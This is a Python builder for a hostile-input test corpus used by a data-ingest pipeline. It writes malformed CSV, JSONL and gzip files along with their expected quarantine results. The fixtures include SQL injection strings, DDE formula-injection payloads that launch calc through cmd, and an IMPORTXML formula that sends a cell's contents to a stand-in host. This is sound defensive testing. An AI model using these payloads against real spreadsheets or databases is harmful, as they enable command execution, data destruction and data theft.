"""Writes the hostile-input corpus beside this file (a landing folder: <source>/<file>) and `expected.json`, what
ingest must make of each file. Run it after changing the corpus: `python tests/data/bad/build.py`; the files are
committed, so a test reads exactly these bytes.

Every file holds at least one good row next to its bad ones (unless it is bad as a whole): ingest must keep
those, quarantine the others with the reason given, and never crash.
"""

from __future__ import annotations

import gzip
import json
import random
import shutil
from pathlib import Path

HERE = Path(__file__).resolve().parent
USERS = "user_id,name,email,phone,birth_date,gender,city,signup_date,acquisition_channel,updated_at"
REVIEW_KEYS = ("review_id", "user_id", "order_id", "product_id", "review_ts", "rating", "body", "updated_at")


def user(uid: str, name: str = "Ann Example", city: str = "Leeds", channel: str = "search") -> str:
    return f"{uid},{name},{uid}@example.com,+44 20 7946 0000,1990-04-02,f,{city},2024-01-05,{channel},2024-01-05 10:00:00"


def event(uid: str, product: str = "p1", **extra) -> str:
    row = {"user_id": uid, "event_ts": "2024-02-01T10:00:00", "event_type": "page_view", "product_id": product,
           "session_id": "s1", **extra}
    return json.dumps(row, ensure_ascii=False)


def review(rid: str, body: str) -> str:
    return json.dumps(dict(zip(REVIEW_KEYS, (rid, "u-good-1", "o1", "p1", "2024-02-02T10:00:00", 5, body,
                                            "2024-02-02T10:00:00"))), ensure_ascii=False)


def build() -> dict:
    expected: dict[str, dict] = {}

    def text(rel: str, lines: list[str], good: int, reasons: dict[str, int], encoding: str = "utf-8",
             prefix: bytes = b"", keep: list[str] = ()) -> None:
        data = prefix + ("\n".join(lines) + "\n").encode(encoding)
        write(rel, data)
        expected[rel] = {"good": good, "reasons": reasons, "keep": list(keep)}

    def whole(rel: str, data: bytes, reason: str) -> None:
        write(rel, data)
        expected[rel] = {"file_reason": reason}

    def write(rel: str, data: bytes) -> None:
        path = HERE / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    rng = random.Random(7)
    sql_name = "\"Robert'); DROP TABLE users;--\""
    formulas = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0"]
    text("users/hostile-text.csv", [USERS, user("u-good-1"), user("u-sql-1", name=sql_name),
                                    *[user(f"u-formula-{i}", city=f'"{f}"') for i, f in enumerate(formulas)]],
         good=6, reasons={}, keep=["Robert'); DROP TABLE users;--", *formulas])
    text("users/bom.csv", [USERS, user("u-bom-1"), user("u-bom-2")], good=2, reasons={}, prefix=b"\xef\xbb\xbf")
    text("users/latin1.csv", [USERS, user("u-latin-1", name="Jos\u00e9 M\u00fcller", city="K\u00f6ln")], good=1,
         reasons={}, encoding="latin-1", keep=["Jos\u00e9 M\u00fcller"])
    whole("users/utf16.csv", ("\ufeff" + USERS + "\n" + user("u-utf16-1") + "\n").encode("utf-16-le"),
          "unsupported_encoding:utf-16")
    whole("users/zero-byte.csv", b"", "empty_file")
    whole("users/binary.csv", bytes(rng.randrange(256) for _ in range(4096)), "binary_file")
    text("users/control.csv", [USERS, user("u-ctl-ok"), user("u-ctl-nul", name="Ann\x00Example"),
                               user("u-ctl-sep", name="Ann\x01Example"), user("u-ctl-esc", name="Ann\x1b[31mExample"),
                               user("u-ctl-bell", city="Leeds\x07")],
         good=1, reasons={"control_characters": 4})
    text("users/huge-field.csv", [USERS, user("u-huge-ok"), user("u-huge-1", name="A" * 1_500_000)], good=1,
         reasons={"line_too_long": 1})
    good_gz = gzip.compress(("\n".join([USERS, user("u-gz-1"), user("u-gz-2")]) + "\n").encode())
    write("users/good.csv.gz", good_gz)
    expected["users/good.csv.gz"] = {"good": 2, "reasons": {}, "keep": []}
    whole("users/truncated.csv.gz", good_gz[: len(good_gz) // 2], "truncated_gzip")
    whole("users/corrupt.csv.gz", good_gz[:10] + bytes(rng.randrange(256) for _ in range(200)), "corrupt_gzip")
    whole("users/not-gzip.csv.gz", (USERS + "\n" + user("u-x") + "\n").encode(), "corrupt_gzip")
    whole("users/gzip-without-suffix.csv", good_gz, "compressed_without_gz_suffix")

    deep = "{\"a\":" * 5000 + "1" + "}" * 5000
    text("events/hostile.jsonl", [
        event("u-good-1"),
        event("u-good-1", product="p1'; DROP TABLE events;--"),
        event("u-good-1", product="=HYPERLINK(\"http://example.com\")"),
        '{"user_id": "u-good-1", "user_id": "u-other", "event_ts": "2024-02-01T10:00:00", "event_type": "page_view"}',
        '{"user_id": "u-good-1", "event_ts": "2024-02-01T10:00:00", "event_type": "page_view", "product_id": ' + deep + "}",
        '{"user_id": "u-good-1", "event_ts": "2024-02-01T10:00:00", "event_type": "page_view", "product_id": {"nested": [1, 2, {"x": null}]}}',
        event("u-good-1")[:-20],
        "[1, 2, 3]",
        "null",
        event("u-good-1", product="p\u0000"),
    ], good=4, reasons={"duplicate_key": 1, "malformed_line": 4, "control_characters": 1},
        keep=["p1'; DROP TABLE events;--", "=HYPERLINK(\"http://example.com\")"])
    whole("events/zero-byte.jsonl", b"", "empty_file")
    whole("events/garbage.jsonl", bytes(rng.randrange(256) for _ in range(8192)), "binary_file")
    whole("events/blank-lines.jsonl", b"\n\n   \n", "empty_file")
    text("reviews/hostile.jsonl", [review("r-good-1", "Great product"),
                                   review("r-sql-1", "'; DELETE FROM reviews WHERE 1=1; --"),
                                   review("r-formula-1", "=IMPORTXML(CONCAT(\"http://x/?\", A1), \"//a\")"),
                                   review("r-dash-1", "- solid, would buy again"),
                                   review("r-ctl-1", "fine\x1b[2J")],
         good=4, reasons={"control_characters": 1},
         keep=["'; DELETE FROM reviews WHERE 1=1; --", "=IMPORTXML(CONCAT(\"http://x/?\", A1), \"//a\")"])
    return expected


def main() -> None:
    for child in HERE.iterdir():
        if child.is_dir():
            shutil.rmtree(child)
    expected = build()
    (HERE / "expected.json").write_text(json.dumps(expected, indent=1, sort_keys=True) + "\n")
    print(f"{len(expected)} files under {HERE}")


if __name__ == "__main__":
    main()
